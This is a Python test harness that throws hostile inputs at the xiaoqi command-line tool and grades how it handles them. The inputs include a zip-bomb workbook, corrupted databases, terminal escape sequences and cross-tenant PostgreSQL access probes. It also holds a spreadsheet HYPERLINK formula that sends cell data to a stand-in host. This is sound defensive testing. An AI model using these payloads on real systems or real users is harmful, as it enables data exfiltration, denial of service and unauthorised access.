"""A hostile run: bad files, misuse, broken database states and files meant to attack their reader,
each tried through the real ``xiaoqi`` command in a subprocess, and each outcome judged:

- clear    — the right outcome: a clear message (no internal error, no traceback, no SQL
             parameters) and the data as it was, or a correct success;
- internal — the catch-all "internal error", a traceback, a crash or SQL parameters in a message;
- hang     — no answer within the case's time limit, or a resource blow-up (memory, time);
- changed  — data changed or lost (a wrong decode stored, values erased, an input file
             overwritten, a symlink or device replaced) or a file written that attacks its reader
             (a live formula, a raw control character on the terminal);
- wrong    — a wrong message or result without a data change (success reported for a refusal,
             a usage mistake silently ignored, a filter that matches everything).

    .venv/bin/python bench/hostile.py                 # SQLite and PostgreSQL (when reachable)
    .venv/bin/python bench/hostile.py --only export   # the cases whose name contains "export"
    .venv/bin/python bench/hostile.py --scopes        # PostgreSQL logins against other scopes' rows

Run as root, the read-only and disk-full cases use small tmpfs mounts (skipped otherwise). The
machine may be shared: the time limits are generous, and the figures are counts, not timings.
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import io
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

XIAOQI = [sys.executable, "-m", "xiaoqi.core.cli"]
PG_SERVER = os.environ.get("XIAOQI_TEST_PG", "postgresql+psycopg://postgres@127.0.0.1:5432/postgres")
VERDICTS = ("clear", "internal", "hang", "changed", "wrong")
#: what the catch-all and a leaked statement look like (the run speaks English)
INTERNAL = ("Internal error", "Traceback (most recent call last)", "[parameters:", "[SQL:")
MEMORY_LIMIT = 2 << 30  # a command that needs more than this for a small file is a blow-up


@dataclass
class Run:
    rc: int | None
    out: str
    err: str
    seconds: float
    rss: int  # bytes, peak

    @property
    def text(self) -> str:
        return self.out + self.err

    @property
    def internal(self) -> bool:
        return self.rc is not None and (self.rc < 0 or any(m in self.text for m in INTERNAL))


def xiaoqi(db: str, *args, timeout: float = 60, env: dict | None = None, stdin=subprocess.DEVNULL,
           input_text: str | None = None) -> Run:
    """The command in a subprocess with its peak memory (``wait4``) and a time limit (``input_text``:
    what it reads on its standard input)."""
    start = time.monotonic()
    proc = subprocess.Popen([*XIAOQI, "--lang", "en", "--db", db, *map(str, args)], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, stdin=subprocess.PIPE if input_text is not None else stdin,
                            env={**os.environ, **(env or {})}, start_new_session=True)
    if input_text is not None:
        proc.stdin.write(input_text.encode("utf-8"))
        proc.stdin.close()
    out_chunks: list[bytes] = []
    err_chunks: list[bytes] = []
    readers = [threading.Thread(target=lambda s=s, c=c: c.append(s.read()), daemon=True)
               for s, c in ((proc.stdout, out_chunks), (proc.stderr, err_chunks))]
    for r in readers:
        r.start()
    rc, rss = None, 0
    while True:
        pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
        if pid:
            rc = os.waitstatus_to_exitcode(status)
            rss = usage.ru_maxrss * 1024
            break
        if time.monotonic() - start > timeout:
            os.killpg(proc.pid, signal.SIGKILL)
            os.wait4(proc.pid, 0)
            break
        time.sleep(0.02)
    proc.returncode = rc if rc is not None else -9
    for r in readers:
        r.join(5)
    decode = lambda chunks: b"".join(chunks).decode("utf-8", "replace")  # noqa: E731
    return Run(rc, decode(out_chunks), decode(err_chunks), time.monotonic() - start, rss)


def refused(run: Run, before: str, after: str, *, limit_seconds: float = 30) -> str:
    """The verdict for a command that must fail and change nothing."""
    if run.rc is None or run.seconds > limit_seconds or run.rss > MEMORY_LIMIT:
        return "hang"
    if run.internal:
        return "internal"
    if before != after:
        return "changed"
    if run.rc == 0:
        return "wrong"
    return "clear"


# -- databases --------------------------------------------------------------------------------

#: what a refused attempt itself adds: the audit entry "refused", the block that seals it and,
#: for an import, its batch with status "refused" and the problems (``imports list`` shows it).
#: They record the attempt, not a change of the data, so the digest leaves them out.
REFUSED_ONLY = {
    "import_batches": "SELECT * FROM import_batches WHERE status <> 'refused'",
    "audit_log": "SELECT * FROM audit_log WHERE action <> 'refused'",
    "audit_blocks": "SELECT * FROM audit_blocks WHERE id IN (SELECT block_id FROM audit_log WHERE action <> 'refused')",
}


def digest(db: str) -> str:
    """Every row of every table (SQLite file or PostgreSQL URL), hashed; refused attempts' audit
    entries left out (``REFUSED_ONLY``)."""
    h = hashlib.sha256()

    def rows(conn, names):
        for name in names:
            query = REFUSED_ONLY.get(name, f'SELECT * FROM "{name}"')
            for row in sorted(map(repr, conn.execute(query))):
                h.update(row.encode())

    if "://" not in db:
        try:  # a database in a read-only folder has no -shm to open: read the file as it is
            conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
            conn.execute("SELECT 1 FROM sqlite_master").fetchall()
        except sqlite3.OperationalError:
            conn = sqlite3.connect(f"file:{db}?immutable=1", uri=True)
        names = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table' ORDER BY name")]
        try:
            rows(conn, names)
        finally:
            conn.close()
        return h.hexdigest()
    import psycopg

    with psycopg.connect(db.replace("postgresql+psycopg", "postgresql")) as conn:
        names = [r[0] for r in conn.execute(
            "SELECT tablename FROM pg_tables WHERE schemaname = 'public' ORDER BY tablename")]
        rows(conn, names)
    return h.hexdigest()


class Place:
    """A scratch directory with a demo SQLite database made once and copied per case."""

    def __init__(self, root: Path):
        self.root = root
        self.template = root / "template.db"
        run = xiaoqi(str(self.template), "demo", timeout=300)
        assert run.rc == 0, run.text
        conn = sqlite3.connect(self.template)
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        self.school = conn.execute("SELECT school_code FROM schools ORDER BY id LIMIT 1").fetchone()[0]
        self.position = conn.execute("SELECT uscc, position_code FROM positions ORDER BY id LIMIT 1").fetchone()
        self.student = conn.execute("SELECT id_number, school_code, student_no FROM students ORDER BY id LIMIT 1").fetchone()
        conn.close()
        self.n = 0

    def db(self, where: Path | None = None) -> str:
        self.n += 1
        folder = where or self.root / f"case{self.n}"
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / "x.db"
        shutil.copyfile(self.template, path)
        return str(path)

    def file(self, name: str) -> Path:
        self.n += 1
        folder = self.root / f"files{self.n}"
        folder.mkdir()
        return folder / name


# -- files ------------------------------------------------------------------------------------

SCHOOL_HEAD = ["school_code", "name", "level", "region"]


def school_code(n: int) -> str:
    return f"41320{n:05d}"


def schools_csv(path: Path, names: list[str], encoding: str) -> Path:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(SCHOOL_HEAD)
    for i, name in enumerate(names):
        writer.writerow([school_code(90000 + i), name, "technician", "320100"])
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def xlsx(path: Path, rows: list[list], patch=None) -> Path:
    """A workbook written by openpyxl; ``patch(xml) -> xml`` edits the first sheet's XML."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    book.save(path)
    if patch:
        with zipfile.ZipFile(path) as z:
            items = [(i, z.read(i)) for i in z.infolist()]
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            for info, data in items:
                if info.filename == "xl/worksheets/sheet1.xml":
                    data = patch(data.decode()).encode()
                z.writestr(info, data)
    return path


def stored_school(db: str, code: str):
    conn = sqlite3.connect(db)
    row = conn.execute("SELECT name, region, contact FROM schools WHERE school_code = ?", (code,)).fetchone()
    conn.close()
    return row


def sql(db: str, statement: str, params=()) -> None:
    conn = sqlite3.connect(db)
    conn.execute(statement, params)
    conn.commit()
    conn.close()


# -- the cases --------------------------------------------------------------------------------

CASES = []


def case(item: str, name: str, backend: str = "sqlite"):
    def add(fn):
        CASES.append((item, name, backend, fn))
        return fn
    return add


# 1. imports never corrupt or erase

@case("1", "csv-big5")
def _(p: Place):
    db = p.db()
    f = schools_csv(p.file("big5.csv"), ["陳國華職業學院", "臺灣技術學院"], "big5")
    before = digest(db)
    run = xiaoqi(db, "import", "schools", f)
    return refused(run, before, digest(db))


@case("1", "csv-shift-jis")
def _(p: Place):
    db = p.db()
    f = schools_csv(p.file("sjis.csv"), ["山田技術学校", "東京工業専門学校"], "shift_jis")
    before = digest(db)
    return refused(xiaoqi(db, "import", "schools", f), before, digest(db))


@case("1", "csv-big5-named-encoding")
def _(p: Place):
    db = p.db()
    f = schools_csv(p.file("big5.csv"), ["陳國華職業學院"], "big5")
    run = xiaoqi(db, "import", "schools", f, "--encoding", "big5")
    if run.internal:
        return "internal"
    if run.rc != 0:
        return "clear"  # no --encoding option: refused clearly
    return "clear" if stored_school(db, school_code(90000))[0] == "陳國華職業學院" else "changed"


@case("1", "csv-gb18030-good")
def _(p: Place):
    db = p.db()
    f = schools_csv(p.file("gb.csv"), ["南京新华职业学院", "苏州科技学院"], "gb18030")
    run = xiaoqi(db, "import", "schools", f)
    if run.internal:
        return "internal"
    return "clear" if run.rc == 0 and stored_school(db, school_code(90000))[0] == "南京新华职业学院" else "wrong"


def _reimport_with(p: Place, patch) -> str:
    """Import schools with contacts, then the same file with one cell broken by ``patch``."""
    db = p.db()
    rows = [SCHOOL_HEAD + ["联系人"]] + [[school_code(90000 + i), f"测试学院{i}", "高职", "320100", f"联系人{i}"]
                                      for i in range(3)]
    good = xlsx(p.file("good.xlsx"), rows)
    assert xiaoqi(db, "import", "schools", good).rc == 0
    bad = xlsx(p.file("bad.xlsx"), rows, patch)
    before = digest(db)
    return refused(xiaoqi(db, "import", "schools", bad), before, digest(db))


def _cell(ref: str, replacement: str):
    import re

    return lambda xml: re.sub(rf'<c r="{ref}"[^>]*>.*?</c>', replacement, xml, count=1)


@case("1", "xlsx-error-cell-na")
def _(p):
    return _reimport_with(p, _cell("E2", '<c r="E2" t="e"><f>NA()</f><v>#N/A</v></c>'))


@case("1", "xlsx-error-cell-ref")
def _(p):
    return _reimport_with(p, _cell("E3", '<c r="E3" t="e"><v>#REF!</v></c>'))


@case("1", "xlsx-formula-no-value")
def _(p):
    return _reimport_with(p, _cell("E4", '<c r="E4"><f>CONCAT("a","b")</f></c>'))


@case("1", "xlsx-merged-cells")
def _(p):
    def merge(xml):
        xml = _cell("E3", '<c r="E3"/>')(_cell("E4", '<c r="E4"/>')(xml))
        return xml.replace("</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="E2:E4"/></mergeCells>')
    return _reimport_with(p, merge)


def _json_import(p: Place, kind: str, items: list, raw: str | None = None) -> str:
    db = p.db()
    f = p.file("x.json")
    f.write_text(raw if raw is not None else json.dumps(items, ensure_ascii=False), encoding="utf-8")
    before = digest(db)
    return refused(xiaoqi(db, "import", kind, f), before, digest(db))


@case("1", "json-nan-text")
def _(p):
    return _json_import(p, "schools", [], raw='[{"学校代码": "4132090000", "学校名称": NaN, "办学层次": "高职", "所在地区代码": "320100"}]')


@case("1", "json-infinity-int")
def _(p):
    uscc, code = p.position
    return _json_import(p, "positions", [], raw=f'[{{"uscc": "{uscc}", "position_code": "{code}", "title": "x", '
                                               f'"major_category": "46", "staff_count": Infinity}}]')


for _name, _char in (("nul", "\x00"), ("esc", "\x1b[2J"), ("bidi", "\u202e")):
    def _control(p, char=_char):
        return _json_import(p, "schools", [{"学校代码": "4132090000", "学校名称": f"坏{char}学院", "办学层次": "高职",
                                            "所在地区代码": "320100"}])
    case("1", f"json-control-{_name}")(_control)

    def _control_csv(p, char=_char):
        db = p.db()
        f = schools_csv(p.file("c.csv"), [f"坏{char}学院"], "utf-8")
        before = digest(db)
        return refused(xiaoqi(db, "import", "schools", f), before, digest(db))
    case("1", f"csv-control-{_name}")(_control_csv)


# 2. the message is the truth

def _invalid_file(p: Place) -> Path:
    return schools_csv(p.file("mixed.csv"), ["好学院", ""], "utf-8")  # the second row lacks its name


@case("2", "errors-to-missing-dir")
def _(p):
    db = p.db()
    f = _invalid_file(p)
    before = digest(db)
    run = xiaoqi(db, "import", "schools", f, "--skip-invalid", "--errors", "/nonexistent/e.csv")
    return refused(run, before, digest(db))


@case("2", "errors-onto-input")
def _(p):
    db = p.db()
    f = _invalid_file(p)
    content = f.read_bytes()
    before = digest(db)
    run = xiaoqi(db, "import", "schools", f, "--errors", f)
    verdict = refused(run, before, digest(db))
    return "changed" if f.read_bytes() != content else verdict


# 3. routine conditions

def _mount(path: Path, size: str, *, ro: bool = False) -> bool:
    path.mkdir(parents=True, exist_ok=True)
    if os.geteuid() != 0:
        return False
    return subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}" + (",ro" if ro else ""), "tmpfs", str(path)],
                          capture_output=True).returncode == 0


def _umount(path: Path) -> None:
    subprocess.run(["umount", "-l", str(path)], capture_output=True)


@case("3", "sqlite-busy")
def _(p):
    db = p.db()
    holder = subprocess.Popen([sys.executable, "-c", "import sqlite3,sys,time; c=sqlite3.connect(sys.argv[1], isolation_level=None);"
                               "c.execute('BEGIN IMMEDIATE'); print('x', flush=True); time.sleep(120)", db],
                              stdout=subprocess.PIPE)
    holder.stdout.readline()
    try:
        before = digest(db)
        run = xiaoqi(db, "records", "set", "schools", p.school, "contact=某某", timeout=60)
        return refused(run, before, digest(db), limit_seconds=45)
    finally:
        holder.kill()
        holder.wait()


@case("3", "read-only-folder")
def _(p):
    mount = p.root / f"ro{p.n}"
    if not _mount(mount, "64m"):
        return None
    try:
        db = p.db(mount)
        subprocess.run(["mount", "-o", "remount,ro", str(mount)], check=True)
        before = digest(db)
        run = xiaoqi(db, "records", "set", "schools", p.school, "contact=某某")
        return refused(run, before, digest(db))
    finally:
        _umount(mount)


@case("3", "missing-output-dir-export")
def _(p):
    db = p.db()
    return refused(xiaoqi(db, "export", "schools", "-o", "/nonexistent/s.csv"), "", "")


@case("3", "missing-output-dir-template")
def _(p):
    db = p.db()
    return refused(xiaoqi(db, "template", "schools", "-o", "/nonexistent/t.xlsx"), "", "")


@case("3", "missing-output-dir-backup")
def _(p):
    db = p.db()
    return refused(xiaoqi(db, "backup", "/nonexistent/b.db"), "", "")


@case("3", "missing-output-dir-report")
def _(p):
    db = p.db()
    return refused(xiaoqi(db, "report", "annual", "--year", "2026", "-o", "/nonexistent/r.md"), "", "")


@case("3", "int-beyond-64-bit")
def _(p):
    db = p.db()
    uscc, code = p.position
    before = digest(db)
    return refused(xiaoqi(db, "records", "set", "positions", f"{uscc}/{code}", "staff_count=" + "9" * 25), before, digest(db))


@case("3", "disk-full")
def _(p):
    mount = p.root / f"full{p.n}"
    if not _mount(mount, "12m"):
        return None
    try:
        db = p.db(mount)
        f = p.file("big.csv")
        names = [f"很长的学院名称{i:06d}" + "学" * 150 for i in range(20000)]
        buffer = io.StringIO()
        writer = csv.writer(buffer)
        writer.writerow(SCHOOL_HEAD)
        for i, name in enumerate(names):
            writer.writerow([f"41{i:08d}", name, "高职", "320100"])
        f.write_text(buffer.getvalue(), encoding="utf-8")
        before = digest(db)
        return refused(xiaoqi(db, "import", "schools", f), before, digest(db))
    finally:
        _umount(mount)


@case("3", "newer-schema")
def _(p):
    db = p.db()
    sql(db, "UPDATE alembic_version SET version_num = '9999_future' WHERE version_num GLOB '[0-9]*'")
    before = digest(db)
    return refused(xiaoqi(db, "status"), before, digest(db))


def _corrupt(db: str) -> None:
    """Random bytes over every other page after the schema's: the tables' pages are damaged."""
    size = os.path.getsize(db)
    with open(db, "r+b") as fh:
        for page in range(2, size // 4096, 2):
            fh.seek(page * 4096)
            fh.write(os.urandom(4096))


@case("3", "corrupt-file")
def _(p):
    db = p.db()
    _corrupt(db)
    return refused(xiaoqi(db, "status"), "", "")


@case("3", "not-a-database")
def _(p):
    f = p.file("notes.db")
    f.write_text("hello, not a database\n" * 100)
    return refused(xiaoqi(str(f), "status"), "", "")


# 4. limits

@case("4", "xlsx-cell-at-XFD1048576")
def _(p):
    db = p.db()
    f = xlsx(p.file("far.xlsx"), [SCHOOL_HEAD], lambda xml: xml.replace(
        "</row></sheetData>", '</row><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')
        .replace('<dimension ref="A1:D1"', '<dimension ref="A1:XFD1048576"'))
    before = digest(db)
    return refused(xiaoqi(db, "import", "schools", f), before, digest(db))


@case("4", "xlsx-cell-at-XFD2000")
def _(p):
    db = p.db()
    f = xlsx(p.file("wide.xlsx"), [SCHOOL_HEAD], lambda xml: xml.replace(
        "</row></sheetData>", '</row><row r="2000"><c r="XFD2000" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')
        .replace('<dimension ref="A1:D1"', '<dimension ref="A1:XFD2000"'))
    before = digest(db)
    return refused(xiaoqi(db, "import", "schools", f), before, digest(db), limit_seconds=20)  # unguarded: 70 s and 10 GB; a shared machine takes 5 s for any command


@case("4", "xlsx-zip-bomb")
def _(p):
    db = p.db()
    f = p.file("bomb.xlsx")
    xlsx(f, [SCHOOL_HEAD])
    with zipfile.ZipFile(f) as z:
        items = [(i, z.read(i)) for i in z.infolist()]
    with zipfile.ZipFile(f, "w", zipfile.ZIP_DEFLATED) as z:
        for info, data in items:
            if info.filename == "xl/worksheets/sheet1.xml":
                with z.open(info.filename, "w", force_zip64=True) as out:
                    text = data.decode()
                    head, tail = text.split("</sheetData>")
                    out.write(head.encode())
                    block = b" " * (1 << 24)
                    for _ in range(256):  # 4 GiB of blanks
                        out.write(block)
                    out.write(b"</sheetData>" + tail.encode())
            else:
                z.writestr(info, data)
    before = digest(db)
    return refused(xiaoqi(db, "import", "schools", f, timeout=120), before, digest(db), limit_seconds=10)


@case("4", "huge-cell-echoed")
def _(p):
    db = p.db()
    f = p.file("big.json")
    f.write_text(json.dumps([{"学校代码": "4" * (20 << 20), "学校名称": "x", "办学层次": "高职", "所在地区代码": "320100"}]))
    before = digest(db)
    run = xiaoqi(db, "import", "schools", f)
    verdict = refused(run, before, digest(db))
    return "wrong" if verdict == "clear" and len(run.text) > 100_000 else verdict


@case("4", "csv-100k-columns")
def _(p):
    db = p.db()
    f = p.file("wide.csv")
    f.write_text(",".join(SCHOOL_HEAD + [f"c{i}" for i in range(100_000)]) + "\n")
    before = digest(db)
    run = xiaoqi(db, "import", "schools", f)
    verdict = refused(run, before, digest(db))
    return "wrong" if verdict == "clear" and len(run.text) > 100_000 else verdict


# 5. files that cannot attack their reader

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'


def _stored_formula(p: Place) -> str:
    db = p.db()
    sql(db, "UPDATE schools SET name = ? WHERE school_code = ?", (FORMULA, p.school))
    return db


@case("5", "export-csv-formula")
def _(p):
    db = _stored_formula(p)
    out = p.file("s.csv")
    run = xiaoqi(db, "export", "schools", "-o", out)
    if run.internal:
        return "internal"
    text = out.read_text(encoding="utf-8-sig")
    return "changed" if any(line.split(",")[1].lstrip('"').startswith("=") for line in text.splitlines()[1:]) else "clear"


@case("5", "export-xlsx-formula")
def _(p):
    import openpyxl

    db = _stored_formula(p)
    out = p.file("s.xlsx")
    run = xiaoqi(db, "export", "schools", "-o", out)
    if run.internal or run.rc != 0:
        return "internal" if run.internal else "wrong"
    sheet = openpyxl.load_workbook(out).active
    return "changed" if any(c.data_type == "f" for row in sheet.iter_rows() for c in row) else "clear"


@case("5", "report-xlsx-formula")
def _(p):
    import openpyxl

    db = _stored_formula(p)
    out = p.file("r.xlsx")
    run = xiaoqi(db, "report", "annual", "--year", "2026", "-o", out)
    if run.internal or run.rc != 0:
        return "internal" if run.internal else "wrong"
    book = openpyxl.load_workbook(out)
    live = any(c.data_type == "f" for s in book.worksheets for row in s.iter_rows() for c in row)
    return "changed" if live else "clear"


@case("5", "errors-file-formula")
def _(p):
    db = p.db()
    f = p.file("f.csv")
    f.write_text(",".join(SCHOOL_HEAD) + "\n" + '=1+2,x,高职,320100\n', encoding="utf-8")
    errors = p.file("e.csv")
    xiaoqi(db, "import", "schools", f, "--errors", errors)
    if not errors.exists():
        return "wrong"
    rows = list(csv.reader(errors.read_text(encoding="utf-8-sig").splitlines()))
    return "changed" if any(cell.startswith("=") for row in rows[1:] for cell in row) else "clear"


@case("5", "esc-in-stored-name-list")
def _(p):
    db = p.db()
    sql(db, "UPDATE schools SET name = ? WHERE school_code = ?", ("坏\x1b]0;owned\x07\x1b[2J学院", p.school))
    run = xiaoqi(db, "records", "list", "schools")
    if run.internal:
        return "internal"
    return "changed" if "\x1b" in run.out else "clear"


@case("5", "esc-in-stored-name-xlsx")
def _(p):
    db = p.db()
    sql(db, "UPDATE schools SET name = ? WHERE school_code = ?", ("坏\x1b[2J学院", p.school))
    run = xiaoqi(db, "export", "schools", "-o", p.file("s.xlsx"))
    return "internal" if run.internal else ("clear" if run.rc == 0 else "wrong")


@case("5", "export-onto-symlink")
def _(p):
    db = p.db()
    target = p.file("precious.txt")
    target.write_text("keep me")
    link = target.with_name("link.csv")
    link.symlink_to(target)
    run = xiaoqi(db, "export", "schools", "-o", link)
    if run.internal:
        return "internal"
    return "changed" if not link.is_symlink() or target.read_text() != "keep me" else "clear"


@case("5", "export-onto-fifo")
def _(p):
    db = p.db()
    fifo = p.file("pipe.csv")
    os.mkfifo(fifo)
    run = xiaoqi(db, "export", "schools", "-o", fifo, timeout=20)
    if run.rc is None:
        return "hang"
    if run.internal:
        return "internal"
    return "changed" if not fifo.is_fifo() else "clear"


# 6. backup and restore

@case("6", "backup-of-corrupt-db")
def _(p):
    db = p.db()
    _corrupt(db)
    out = p.file("b.db")
    run = xiaoqi(db, "backup", out)
    if run.internal:
        return "internal"
    return "wrong" if run.rc == 0 else "clear"


@case("6", "restore-while-held")
def _(p):
    db = p.db()
    copy = p.file("b.db")
    shutil.copyfile(db, copy)
    holder = subprocess.Popen([sys.executable, "-c", "import sqlite3,sys,time; c=sqlite3.connect(sys.argv[1]);"
                               "c.execute('SELECT count(*) FROM schools').fetchone(); print('x', flush=True); time.sleep(60)", db],
                              stdout=subprocess.PIPE)
    holder.stdout.readline()
    try:
        before = digest(db)
        run = xiaoqi(db, "restore", copy, "--yes")
        return refused(run, before, digest(db))
    finally:
        holder.kill()
        holder.wait()


@case("6", "restore-garbage-file")
def _(p):
    db = p.db()
    junk = p.file("junk.db")
    junk.write_bytes(os.urandom(8192))
    before = digest(db)
    return refused(xiaoqi(db, "restore", junk, "--yes"), before, digest(db))


# 7. the same validation on both databases

@case("7", "filter-percent")
def _(p):
    db = p.db()
    run = xiaoqi(db, "records", "list", "schools", "--filter", "name=%", "--format", "json")
    if run.internal:
        return "internal"
    return "wrong" if run.rc == 0 and json.loads(run.out) else "clear"


@case("7", "search-underscore")
def _(p):
    db = p.db()
    run = xiaoqi(db, "records", "list", "schools", "--search", "_", "--format", "json")
    if run.internal:
        return "internal"
    return "wrong" if run.rc == 0 and json.loads(run.out) else "clear"


@case("7", "unknown-sort-column")
def _(p):
    db = p.db()
    run = xiaoqi(db, "records", "list", "schools", "--sort", "nosuch")
    if run.internal:
        return "internal"
    return "clear" if run.rc == 2 else "wrong"


@case("7", "int-2-31-sqlite")
def _(p):
    db = p.db()
    uscc, code = p.position
    before = digest(db)
    return refused(xiaoqi(db, "records", "set", "positions", f"{uscc}/{code}", "staff_count=3000000000"), before, digest(db))


@case("7", "control-char-in-text-sqlite")
def _(p):
    db = p.db()
    before = digest(db)
    return refused(xiaoqi(db, "records", "set", "schools", p.school, "contact=a\x01b"), before, digest(db))


# PostgreSQL

def _fresh_database(name: str) -> tuple[str, str, str]:
    """An empty database ``name`` on the server (dropped first if a run left it): the server's
    psycopg address, the name and the database's xiaoqi URL."""
    import psycopg

    server = PG_SERVER.replace("postgresql+psycopg", "postgresql")
    with psycopg.connect(server, autocommit=True) as conn:
        conn.execute(f'DROP DATABASE IF EXISTS "{name}"')
        conn.execute(f'CREATE DATABASE "{name}"')
    return server, name, PG_SERVER.rsplit("/", 1)[0] + "/" + name


class PgPlace:
    def __init__(self, place: Place):
        self.server, self.name, self.url = _fresh_database(f"xiaoqi_hostile_{os.getpid()}")
        assert xiaoqi(self.url, "init", timeout=300).rc == 0
        run = xiaoqi(self.url, "demo", timeout=600)
        assert run.rc == 0, run.text
        self.place = place

    def lock(self, statement: str):
        """Another session holding a lock until ``release()``."""
        import psycopg

        conn = psycopg.connect(self.url.replace("postgresql+psycopg", "postgresql"))
        conn.execute("BEGIN")
        conn.execute(statement)
        return conn

    def drop(self) -> None:
        import psycopg

        with psycopg.connect(self.server, autocommit=True) as conn:
            conn.execute(f'DROP DATABASE IF EXISTS "{self.name}" WITH (FORCE)')


def _pg_refused(pg: PgPlace, *args, lock: str | None = None, timeout: float = 45) -> str:
    held = pg.lock(lock) if lock else None
    try:
        before = digest(pg.url)
        run = xiaoqi(pg.url, *args, timeout=timeout)
    finally:
        if held is not None:
            held.close()
    return refused(run, before, digest(pg.url), limit_seconds=timeout)


@case("4", "pg-locked-records-set", "pg")
def _(pg):
    return _pg_refused(pg, "records", "set", "schools", pg.place.school, "contact=某某",
                       lock=f"SELECT * FROM schools WHERE school_code = '{pg.place.school}' FOR UPDATE")


@case("4", "pg-locked-import", "pg")
def _(pg):
    f = schools_csv(pg.place.file("s.csv"), ["新学院"], "utf-8")
    return _pg_refused(pg, "import", "schools", f, lock="LOCK TABLE schools IN EXCLUSIVE MODE")


@case("4", "pg-locked-status", "pg")
def _(pg):
    run_lock = "LOCK TABLE internships IN ACCESS EXCLUSIVE MODE"
    held = pg.lock(run_lock)
    try:
        run = xiaoqi(pg.url, "status", timeout=45)
    finally:
        held.close()
    if run.rc is None:
        return "hang"
    return "internal" if run.internal else ("clear" if run.rc != 0 else "wrong")


@case("7", "pg-int-2-31", "pg")
def _(pg):
    uscc, code = pg.place.position
    return _pg_refused(pg, "records", "set", "positions", f"{uscc}/{code}", "staff_count=3000000000")


@case("7", "pg-nul-in-text", "pg")
def _(pg):
    f = pg.place.file("nul.json")
    f.write_text(json.dumps([{"school_code": "4132090000", "name": "坏\x00学院", "level": "高职", "region": "320100"}]))
    return _pg_refused(pg, "import", "schools", f)


@case("3", "pg-unreachable", "pg")
def _(pg):
    return refused(xiaoqi("postgresql+psycopg://postgres@127.0.0.1:1/none", "status"), "", "")


@case("3", "pg-connection-lost", "pg")
def _(pg):
    """The server ends the session while a large import runs."""
    import psycopg

    f = pg.place.file("many.csv")
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(SCHOOL_HEAD)
    for i in range(200_000):
        writer.writerow([f"42{i:08d}", f"学院{i}", "高职", "320100"])
    f.write_text(buffer.getvalue(), encoding="utf-8")
    before = digest(pg.url)

    def killer():
        # once the import writes (a COPY or INSERT running in its session): a fixed pause either
        # hit the import before it wrote, or came after a fast import had committed
        with psycopg.connect(pg.server, autocommit=True) as conn:
            for _ in range(1200):
                killed = conn.execute(
                    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = %s AND pid <> pg_backend_pid() "
                    "AND state = 'active' AND (query ILIKE 'COPY%%' OR query ILIKE 'INSERT%%')", (pg.name,)).fetchall()
                if killed:
                    return
                time.sleep(0.05)

    threading.Thread(target=killer, daemon=True).start()
    run = xiaoqi(pg.url, "import", "schools", f, timeout=120)
    return refused(run, before, digest(pg.url), limit_seconds=120)


# -- PostgreSQL logins against other scopes (--scopes) ---------------------------------------------

class ScopeProbe:
    """Logins of two schools, two enterprises, a province and the auditor on a demo database, each
    connecting with psycopg (bypassing xiaoqi) and trying what the security review tried: reading
    other scopes' rows and personal data, changing and deleting other scopes' records, writing the
    service-kept and append-only tables, referencing another scope's student, widening ``--as``.
    Every write runs in a transaction that is rolled back; a leak is a read that shows what is not
    the login's, or a write the database let through."""

    PASSWORD = "hostile-probe"

    def __init__(self):
        self.server, self.name, self.url = _fresh_database(f"xiaoqi_hostile_scopes_{os.getpid()}")
        self.logins: dict[str, tuple[str, str]] = {}  # who -> (login, actor)
        try:
            self._set_up()
        except BaseException:
            self.drop()
            raise

    def _set_up(self) -> None:
        assert xiaoqi(self.url, "init", timeout=300).rc == 0
        run = xiaoqi(self.url, "demo", "--size", "small", timeout=900)
        assert run.rc == 0, run.text
        self.facts = self._facts()
        for who, actor in (("school A", f"school:{self.facts['school_a']}"), ("school B", f"school:{self.facts['school_b']}"),
                           ("enterprise F", f"enterprise:{self.facts['firm_f']}"),
                           ("enterprise G", f"enterprise:{self.facts['firm_g']}"),
                           ("province", f"province:{self.facts['province']}"), ("auditor", "auditor")):
            login = f"hostile_{who.split()[0]}_{who.split()[-1].lower()}_{os.getpid()}"[:63]
            run = xiaoqi(self.url, "users", "add", login, "--actor", actor, "--password-stdin",
                         input_text=self.PASSWORD + "\n", timeout=120)
            assert run.rc == 0, run.text
            self.logins[who] = (login, actor)

    def owner(self):
        import psycopg

        return psycopg.connect(self.url.replace("postgresql+psycopg", "postgresql"), autocommit=True)

    def _facts(self) -> dict:
        with self.owner() as conn:
            one = lambda sql, *p: conn.execute(sql, p).fetchone()[0]  # noqa: E731
            firm = one("SELECT uscc FROM internships GROUP BY uscc ORDER BY count(*) DESC, uscc LIMIT 1")
            school = one("SELECT school_code FROM internships WHERE uscc = %s GROUP BY school_code ORDER BY count(*) DESC LIMIT 1", firm)
            other = one("SELECT school_code FROM students WHERE school_code <> %s GROUP BY school_code ORDER BY count(*) DESC LIMIT 1",
                        school)
            return {
                "firm_f": firm, "school_a": school, "school_b": other,
                "firm_g": one("SELECT uscc FROM positions WHERE uscc <> %s GROUP BY uscc ORDER BY count(*) DESC LIMIT 1", firm),
                "province": one("SELECT substr(region, 1, 2) FROM schools WHERE school_code = %s", school),
                **{f"student_{x}": one("SELECT id_number FROM students WHERE school_code = %s AND id_number NOT IN "
                                       "(SELECT id_number FROM internships WHERE uscc = %s) ORDER BY id_number LIMIT 1", s, firm)
                   for x, s in (("a", school), ("b", other))},
                "policy_a": one("SELECT policy_no FROM policies WHERE holder = %s ORDER BY policy_no LIMIT 1", school),
